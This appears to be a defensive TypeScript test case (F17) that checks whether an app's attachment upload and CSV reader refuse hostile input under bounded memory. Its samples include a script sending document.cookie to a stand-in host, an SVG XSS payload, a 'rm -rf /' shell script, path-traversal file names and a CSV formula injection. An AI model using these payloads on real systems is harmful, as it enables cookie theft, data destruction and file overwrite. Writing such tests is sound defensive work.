/** @file F17: files made to hurt, each refused with its own reason before anything of it is kept; lists as well. */

import { createWriteStream } from "node:fs";
import { readdir } from "node:fs/promises";
import path from "node:path";
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { createGzip } from "node:zlib";
import { defaultLimits, openList } from "../../../electron/lists/read-list.ts";
import type { Reply } from "../../../shared/bridge/reply.ts";
import { AppError } from "../../../shared/errors.ts";
import type { FileAttachment } from "../../../shared/model/attachment.ts";
import { jpeg, jpegSegment, pdf, png, pngChunk, webm, webp, webpChunk } from "../../electron/attachments/samples.ts";
import { clearDesks, type Desk, openNewVault, type VaultOfDesk } from "../../electron/services/desk.ts";
import { type FaultCase, type Outcome, type Scale, Tally } from "../case.ts";
import { withFolder } from "../image.ts";

const mebibyte = 2 ** 20;
/** The plan's bound on how much memory any of this may take. */
const growthBytes = 300 * mebibyte;

type Content = Uint8Array | (() => Generator<Uint8Array>);
interface Hostile {
  readonly what: string;
  readonly content: Content;
  readonly query?: Readonly<Record<string, string>>;
  /** The code it is refused with. */
  readonly told: string;
}

const text = (content: string) => Buffer.from(content, "utf8");
const hex = (digits: string, rest = 600) => Buffer.concat([Buffer.from(digits, "hex"), Buffer.alloc(rest, 0x20)]);
const script = "<script>fetch('http://example.invalid/'+document.cookie)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const photo = { kind: "photo", name: "photo.jpg" };

/** So many mebibytes behind a head, made as they are read. */
function* long(head: Uint8Array, mebibytes: number): Generator<Uint8Array> {
  yield head;
  for (let n = 0; n < mebibytes; n++) yield Buffer.alloc(mebibyte, n);
}

function files(scale: Scale): readonly Hostile[] {
  const far = scale === "whole" ? 2048 : 60;
  return [
    { what: "PNG of 50,000 x 50,000", content: png({ width: 50_000, height: 50_000 }), told: "attachment-pixels" },
    { what: "JPEG of 65,500 x 65,500", content: jpeg({ width: 65_500, height: 65_500 }), told: "attachment-pixels" },
    {
      what: "WebP of 16 million x 16 million",
      content: webp(webpChunk("VP8X", Buffer.alloc(10, 0xff))),
      told: "attachment-pixels",
    },
    { what: "PNG of one row, a mile wide", content: png({ width: 2 ** 31 - 1, height: 1 }), told: "attachment-pixels" },
    { what: "PNG of no width", content: png({ width: 0 }), told: "attachment-picture" },
    {
      what: "PNG whose first chunk is not its header",
      content: Buffer.concat([png().subarray(0, 8), pngChunk("IDAT", "x")]),
      told: "attachment-picture",
    },
    {
      what: "PNG with a chunk of 4 GB",
      content: Buffer.concat([png().subarray(0, 8), Buffer.from("ffffffff49484452", "hex"), Buffer.alloc(20)]),
      told: "attachment-picture",
    },
    {
      what: "JPEG without a frame",
      content: Buffer.concat([Buffer.from("ffd8", "hex"), jpegSegment(0xfe, "x"), Buffer.from("ffd9", "hex")]),
      told: "attachment-picture",
    },
    {
      what: "JPEG of fill bytes",
      content: Buffer.concat([Buffer.from("ffd8", "hex"), Buffer.alloc(500_000, 0xff)]),
      told: "attachment-picture",
    },
    {
      what: "WebP shorter than it says",
      content: webp(webpChunk("VP8L", Buffer.alloc(100))).subarray(0, 60),
      told: "attachment-picture",
    },
    { what: "SVG with a script", content: text(svg), query: photo, told: "attachment-markup" },
    { what: "SVG after an XML declaration", content: text(`<?xml version="1.0"?>\n${svg}`), told: "attachment-markup" },
    { what: "SVG after a byte order mark", content: text(`\uFEFF  \n${svg}`), told: "attachment-markup" },
    { what: "SVG in UTF-16", content: Buffer.from(`\uFEFF${svg}`, "utf16le"), told: "attachment-markup" },
    { what: "HTML called .jpg", content: text(`<!DOCTYPE html>${script}`), query: photo, told: "attachment-markup" },
    {
      what: "HTML after a comment",
      content: text(`<!-- x --><html>${script}`),
      query: photo,
      told: "attachment-markup",
    },
    { what: "a zip", content: hex("504b0304"), told: "attachment-archive" },
    { what: "an empty zip", content: hex("504b0506"), told: "attachment-archive" },
    { what: "a RAR", content: hex("526172211a07"), told: "attachment-archive" },
    { what: "a 7z", content: hex("377abcaf271c"), told: "attachment-archive" },
    { what: "a gzip bomb", content: hex("1f8b08"), told: "attachment-archive" },
    { what: "an old Word file", content: hex("d0cf11e0a1b11ae1"), told: "attachment-archive" },
    {
      what: "a Windows program called .pdf",
      content: hex("4d5a9000"),
      query: { name: "invoice.pdf" },
      told: "attachment-program",
    },
    { what: "a Linux program", content: hex("7f454c46"), told: "attachment-program" },
    { what: "a shell script", content: text("#!/bin/sh\nrm -rf /\n"), told: "attachment-program" },
    {
      what: "a Windows shortcut",
      content: hex("4c0000000114020000000000c000000000000046"),
      told: "attachment-program",
    },
    { what: "WebAssembly", content: hex("0061736d01000000"), told: "attachment-program" },
    { what: "plain text", content: text("hello"), told: "attachment-type" },
    { what: "a PDF behind other bytes", content: text("x%PDF-1.7"), told: "attachment-type" },
    { what: "an iPhone's HEIC picture", content: hex("000000186674797068656963"), told: "attachment-type" },
    { what: "a GIF", content: text("GIF89a...."), told: "attachment-type" },
    {
      what: "a film called a recording",
      content: Buffer.concat([webm(0), text("V_VP9")]),
      query: { kind: "recording" },
      told: "attachment-type",
    },
    { what: "nothing", content: Buffer.alloc(0), told: "attachment-empty" },
    { what: "a PDF as a signature", content: pdf(100), query: { kind: "signature" }, told: "attachment-kind" },
    { what: "sound as a document", content: webm(100), told: "attachment-kind" },
    { what: "a PDF to be cleaned", content: pdf(100), query: { strip: "1" }, told: "attachment-strip" },
    {
      what: "a picture cut short, to be cleaned",
      content: jpeg().subarray(0, -9),
      query: { ...photo, strip: "1" },
      told: "attachment-picture",
    },
    {
      what: "a name of nothing but tricks",
      content: pdf(100),
      query: { name: "..\u202E/\u200B" },
      told: "attachment-name",
    },
    { what: "a PDF without end", content: () => long(pdf(100), far), told: "attachment-too-large" },
    {
      what: "a picture without end",
      content: () => long(jpeg().subarray(0, -2), far),
      query: photo,
      told: "attachment-too-large",
    },
    ...(scale === "quick"
      ? []
      : [
          {
            what: "sound without end",
            content: () => long(webm(100), 600),
            query: { kind: "recording" },
            told: "attachment-too-large",
          },
        ]),
  ];
}

const names: readonly string[] = [
  "../../../../etc/cron.d/x",
  "..\\..\\x.pdf",
  "/etc/passwd",
  "C:\\Windows\\x",
  "CON",
  "aux.pdf",
  "x\u202Efdp.exe",
  "长".repeat(300),
  "trailing dot.",
  "a\0b\r\nc.pdf",
  "%2e%2e%2fx",
  "__proto__",
];

type Opened = Desk & VaultOfDesk;

async function post(desk: Opened, content: Content, query: Readonly<Record<string, string>> = {}): Promise<Reply> {
  const search = new URLSearchParams({ client: "c-1", kind: "document", name: "x", strip: "0", ...query });
  const pieces = typeof content === "function" ? content() : [content];
  const body = Readable.toWeb(Readable.from(pieces)) as ReadableStream<Uint8Array<ArrayBuffer>>;
  const request = { method: "POST", body, duplex: "half" } as RequestInit;
  return (await (await desk.stream(`/stream/attachment?${search}`, request)).json()) as Reply;
}

async function hostileFiles(desk: Opened, tally: Tally, scale: Scale): Promise<void> {
  const place = path.join(desk.root, desk.session.vault.id);
  const filesThere = async () => (await readdir(desk.root, { recursive: true })).sort();
  const before = await filesThere();
  for (const { what, content, query, told } of files(scale)) {
    tally.tried();
    const reply = await post(desk, content, query);
    const heard = reply.ok ? "taken in" : reply.code;
    tally.undetected(heard !== told, `${what}: ${heard}`);
  }
  const left = (await filesThere()).filter(
    (name) => !before.includes(name) && path.join(desk.root, name) !== path.join(place, "att"),
  );
  tally.undetected(left.length > 0, `left behind: ${left.join(", ")}`);
  for (const name of names) {
    tally.tried();
    const reply = await post(desk, pdf(100), { name });
    const { id = "", name: kept = "" } = reply.ok ? (reply.value as FileAttachment) : {};
    const isSafe = reply.ok && !/[\p{Cc}\p{Cf}/\\]|^\.|^(?:con|aux)\./iu.test(kept) && kept.length <= 120;
    const isThere = (await filesThere()).includes(path.join(desk.session.vault.id, "att", `${id}.a`));
    tally.undetected(!isSafe || !isThere, `${JSON.stringify(name)} is kept as ${JSON.stringify(kept)}`);
  }
  const more = (await filesThere()).length - before.length - 1;
  tally.undetected(more !== names.length, `${more} files for ${names.length} attachments`);
}

interface HostileList {
  readonly what: string;
  readonly content: Content;
  readonly isPacked?: true;
  /** The reason it is refused for, or its rows where it is read. */
  readonly told: string;
}

function* lineWithoutEnd(mebibytes: number): Generator<Uint8Array> {
  yield text("name,phone\n");
  for (let n = 0; n < mebibytes; n++) yield Buffer.alloc(mebibyte, "x");
}

function lists(scale: Scale): readonly HostileList[] {
  const far = scale === "whole" ? 1024 : 32;
  return [
    { what: "a line of a gigabyte", content: () => lineWithoutEnd(far), told: "row-too-long" },
    {
      what: "the same, compressed to a megabyte",
      content: () => lineWithoutEnd(far),
      isPacked: true,
      told: "row-too-long",
    },
    { what: "NUL", content: text("a,b\n1,\0\n"), told: "nul" },
    {
      what: "neither UTF-8 nor GB18030",
      content: Buffer.from("610aff ff0a".replace(" ", ""), "hex"),
      told: "encoding",
    },
    { what: "a quote that never closes", content: text('a,b\n1,"2\n3,4\n'), told: "quotes" },
    { what: "ten thousand columns", content: text(`${"a,".repeat(10_000)}\n`), told: "too-many-columns" },
    {
      what: "a million and one rows",
      content: text(`a\n${"1\n".repeat(scale === "whole" ? 1_000_001 : 0)}`),
      told: scale === "whole" ? "too-many-rows" : "0 rows",
    },
    { what: "a byte order mark", content: text("\uFEFFa,b\n1,2\n"), told: "1 rows" },
    { what: "UTF-16 without its mark", content: Buffer.from("a,b\n1,2\n", "utf16le"), told: "1 rows" },
    { what: "UTF-16 with its mark", content: Buffer.from("\uFEFFa,b\n1,2\n", "utf16le"), told: "1 rows" },
    { what: "formulas", content: text("a,b\n=cmd|' /C calc'!A0,@SUM(1)\n+1,-1\n"), told: "2 rows" },
    { what: "a header of __proto__", content: text("__proto__,constructor\n1,2\n"), told: "1 rows" },
  ];
}

async function hostileLists(folder: string, tally: Tally, scale: Scale): Promise<void> {
  const file = path.join(folder, "list.csv");
  for (const { what, content, isPacked, told } of lists(scale)) {
    tally.tried();
    const source = Readable.from(typeof content === "function" ? content() : [content]);
    await (isPacked === true
      ? pipeline(source, createGzip({ level: 1 }), createWriteStream(file))
      : pipeline(source, createWriteStream(file)));
    const heard = await openList(file, {}, { ...defaultLimits, bytes: 2 * 2 ** 30 }).then(
      ({ rows }) => `${rows} rows`,
      (error: unknown) => (error instanceof AppError ? String(error.params["reason"]) : String(error)),
    );
    tally.undetected(heard !== told, `list, ${what}: ${heard}`);
  }
  tally.undetected(
    Object.keys({}).length > 0 || "1" in Object.prototype,
    "a header reached the prototype of all objects",
  );
}

/** Do it, and see that it takes no more memory than it may. What earlier cases left lying is swept away first. */
async function watched(what: string, tally: Tally, work: () => Promise<void>): Promise<void> {
  setFlagsFromString("--expose-gc");
  (runInNewContext("gc") as () => void)();
  const before = process.memoryUsage.rss();
  let most = before;
  const watch = setInterval(() => (most = Math.max(most, process.memoryUsage.rss())), 20);
  await work().finally(() => clearInterval(watch));
  const growth = `${what} took ${Math.round((most - before) / mebibyte)} MB of memory`;
  tally.undetected(most - before > growthBytes, growth);
  tally.note(`${growth} (target below 300)`);
}

async function hostile(scale: Scale): Promise<Outcome> {
  const tally = new Tally();
  try {
    const desk = await openNewVault();
    await watched("files", tally, () => hostileFiles(desk, tally, scale));
    await watched("lists", tally, () => withFolder((folder) => hostileLists(folder, tally, scale), "disk"));
  } finally {
    await clearDesks();
  }
  return tally.outcome;
}

export const hostileCase: FaultCase = {
  id: "F17",
  title: "a hostile file or list is refused for its own reason, or kept under a safe name, in bounded memory",
  atLeast: 60,
  run: hostile,
};
